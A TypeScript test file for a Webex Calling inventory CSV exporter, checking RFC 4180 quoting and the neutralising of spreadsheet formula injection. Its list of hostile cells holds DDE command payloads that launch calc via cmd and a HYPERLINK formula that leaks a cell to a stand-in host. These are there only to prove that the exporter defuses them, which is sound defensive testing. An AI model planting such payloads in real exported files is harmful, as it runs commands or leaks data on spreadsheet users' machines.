import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { collectInventory, csvField, INVENTORY_COLUMNS, inventoryRows, inventoryToCsv, neutraliseFormula, toCsv } from '../../src/inventory';
import { startSampleServer, SAMPLE_TOKEN } from '../support/sampleServer';
import { OrgStore } from '../../src/store/orgStore';
import { WebexCalling } from '../../src/webex/calling';
import { WebexClient } from '../../src/webex/client';
import type { CallPickupAgent } from '../../src/kinds/callPickup/types';
import type { HuntGroupAgent } from '../../src/kinds/huntGroup/types';

/** An RFC 4180 reader, written for the test from the RFC's grammar (CRLF records, "" inside quotes). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && field === '') {
      i++;
      for (;;) {
        assert.ok(i < text.length, 'unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else field += text[i++];
      }
      assert.ok(text[i] === ',' || text.startsWith('\r\n', i), `a quoted field ends at a comma or CRLF, at ${i}`);
    } else if (text[i] === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (text.startsWith('\r\n', i)) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      assert.ok(text[i] !== '\r' && text[i] !== '\n' && text[i] !== '"', `bare ${JSON.stringify(text[i])} at ${i}`);
      field += text[i++];
    }
  }
  assert.equal(field + record.join(''), '', 'the last record ends with CRLF');
  return records;
}

/** What a spreadsheet would run as a formula (see csv.ts for the rule). */
function runsAsFormula(cell: string): boolean {
  return /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^[+\-\uFF0B\uFF0D][0-9 ().-]*$/.test(cell);
}

const HOSTILE_CELLS = [
  "=cmd|' /C calc'!A0",
  '@SUM(1)',
  '+SUM(1+1)',
  '-2+3+cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  'say "hello", then leave',
  'two\r\nlines',
  'line\nfeed',
  '"',
  ',',
];

describe('CSV', () => {
  describe('formula neutralisation', () => {
    it('prefixes a quote to cells a spreadsheet would run', () => {
      for (const cell of HOSTILE_CELLS.filter((c) => /^[=+\-@\t\r\uFF1D]/.test(c))) {
        assert.equal(neutraliseFormula(cell), `'${cell}`, JSON.stringify(cell));
      }
    });

    it('leaves phone numbers, signed numbers and ordinary text alone', () => {
      for (const cell of ['+14085550101', '+1 (408) 555-0101', '+44 20 7946 0001', '-5', '-1.5', '+', 'Sales Line', "O'Brien", '', ' =1+1', 'a=b', '5001']) {
        assert.equal(neutraliseFormula(cell), cell, JSON.stringify(cell));
      }
    });

    it('never lets a formula through, for any string', () => {
      fc.assert(fc.property(fc.string(), (value) => !runsAsFormula(neutraliseFormula(value))));
    });
  });

  describe('RFC 4180 quoting', () => {
    it('quotes fields with a comma, a quote, CR or LF, doubling quotes', () => {
      assert.equal(csvField('a,b'), '"a,b"');
      assert.equal(csvField('say "hi"'), '"say ""hi"""');
      assert.equal(csvField('two\r\nlines'), '"two\r\nlines"');
      assert.equal(csvField('cr\ronly'), '"cr\ronly"');
      assert.equal(csvField('plain'), 'plain');
      assert.equal(csvField(null), '');
      assert.equal(csvField(undefined), '');
      assert.equal(csvField(true), 'true');
      assert.equal(csvField(50), '50');
    });

    it('neutralises before quoting', () => {
      assert.equal(csvField('=HYPERLINK("x","y")'), '"\'=HYPERLINK(""x"",""y"")"');
    });

    it('ends every record with CRLF, and can start with a byte order mark for Excel', () => {
      assert.equal(toCsv(['a', 'b'], [['1', '2']]), 'a,b\r\n1,2\r\n');
      assert.equal(toCsv(['a'], [], { byteOrderMark: true }), '\uFEFFa\r\n');
    });

    it('reads back as written, for any cells', () => {
      const cell = fc.oneof(fc.string(), fc.constantFrom(...HOSTILE_CELLS), fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', '=', 'a', ' ') }));
      fc.assert(
        fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { maxLength: 5 }), (rows) => {
          const parsed = parseCsv(toCsv(['first', 'second'], rows));
          // The test's own rule (runsAsFormula), not the code under test, says which cells get the quote.
          assert.deepEqual(parsed, [['first', 'second'], ...rows.map((row) => row.map((cell) => (runsAsFormula(cell) ? `'${cell}` : cell)))]);
        }),
      );
    });
  });

  it('exports the sample org with hostile names: every row intact, no cell runs as a formula, numbers usable', async () => {
    const server = await startSampleServer();
    try {
      // Hostile names where the API returns names: a hunt group, a call pickup and their agents.
      const where = server.org.locations.find((l) => l.huntGroups.length > 0 && l.callPickups.length > 0)!;
      const group = where.huntGroups[0];
      const pickup = where.callPickups[0];
      group.name = HOSTILE_CELLS[0];
      pickup.name = HOSTILE_CELLS[8];
      const [first, second] = group.agents as HuntGroupAgent[];
      first.firstName = HOSTILE_CELLS[1];
      first.lastName = HOSTILE_CELLS[4];
      second.firstName = HOSTILE_CELLS[9];
      (pickup.agents as CallPickupAgent[])[0].lastName = HOSTILE_CELLS[3];

      const store = new OrgStore(new WebexCalling(new WebexClient({ baseUrl: server.baseUrl, getToken: () => SAMPLE_TOKEN })));
      const inventory = await collectInventory(store);
      const records = parseCsv(inventoryToCsv(inventory.items));
      const rows = inventoryRows(inventory.items);

      assert.deepEqual(records[0], [
        'Location', 'Location ID', 'Kind', 'Group Name', 'Group ID', 'Group Extension', 'Group Number', 'Policy',
        'Enabled', 'Agent Name', 'Agent Type', 'Agent ID', 'Agent Extension', 'Agent Number', 'Weight',
      ]);
      // One row per agent membership, one for a group without agents (auto attendants have none),
      // counted from the sample data.
      const memberships = server.org.locations
        .flatMap((l) => [...l.huntGroups, ...l.callPickups, ...l.callQueues, ...l.autoAttendants])
        .reduce((sum, g) => sum + Math.max(1, Array.isArray(g.agents) ? g.agents.length : 0), 0);
      assert.equal(records.length, 1 + memberships);
      assert.equal(rows.length, memberships);
      assert.ok(records.every((record) => record.length === INVENTORY_COLUMNS.length));
      for (const cell of records.flat()) assert.ok(!runsAsFormula(cell), `runs as a formula: ${JSON.stringify(cell)}`);

      const column = (name: string): number => INVENTORY_COLUMNS.findIndex(([, heading]) => heading === name);
      const groupRows = records.filter((r) => r[column('Group ID')] === group.id);
      assert.ok(groupRows.every((r) => r[column('Group Name')] === `'${HOSTILE_CELLS[0]}`));
      assert.ok(groupRows.some((r) => r[column('Agent Name')] === `'${HOSTILE_CELLS[1]} ${HOSTILE_CELLS[4]}`));
      assert.ok(groupRows.some((r) => r[column('Agent Name')].startsWith('two\r\nlines')));
      assert.ok(records.some((r) => r[column('Group Name')] === HOSTILE_CELLS[8]), 'quotes and commas survive');
      assert.ok(groupRows.every((r) => r[column('Group Number')] === (group.phoneNumber ?? '')), 'the group number stays as it is');
      assert.ok(records.slice(1).some((r) => /^\+\d+$/.test(r[column('Agent Number')])), 'agent numbers keep their +');
    } finally {
      await server.close();
    }
  });
});
